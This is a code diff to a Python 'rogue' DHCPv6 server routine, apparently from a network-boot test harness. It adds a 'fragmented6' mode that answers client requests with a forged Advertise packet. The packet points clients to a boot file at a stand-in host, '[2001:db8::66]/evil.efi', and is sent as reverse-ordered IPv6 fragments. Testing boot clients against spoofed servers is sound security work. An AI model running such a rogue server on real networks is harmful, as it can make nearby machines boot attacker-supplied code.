@@ -190,6 +190,16 @@ def rogue(interface: str, mode: str, *args: str) -> None:
         if frame is None or frame.src_mac == mac or frame.protocol != frames.IPPROTO_UDP:
             continue
         if frame.family == 6:
+            if mode == "fragmented6" and frame.dport == dhcp6.SERVER_PORT:
+                msg = dhcp6.parse(frame.payload)
+                adv = packets.advertise(xid=msg.xid, client_duid=bytes.fromhex(
+                    msg.client_duid or ""), url="https://[2001:db8::66]/evil.efi",
+                    server_mac=mac)
+                whole = frames.udp6_frame(
+                    src_mac=mac, dst_mac=frame.src_mac, src_ip=frames.link_local_from_mac(mac),
+                    dst_ip=frame.src_ip, sport=547, dport=546, payload=adv)
+                for part in reversed(packets.fragment6(whole, 48, ident=msg.xid)):
+                    sock.send(part)
             if mode == "duid6" and frame.dport == dhcp6.SERVER_PORT:
                 msg = dhcp6.parse(frame.payload)
                 adv = packets.advertise(xid=msg.xid, client_duid=bytes.fromhex(
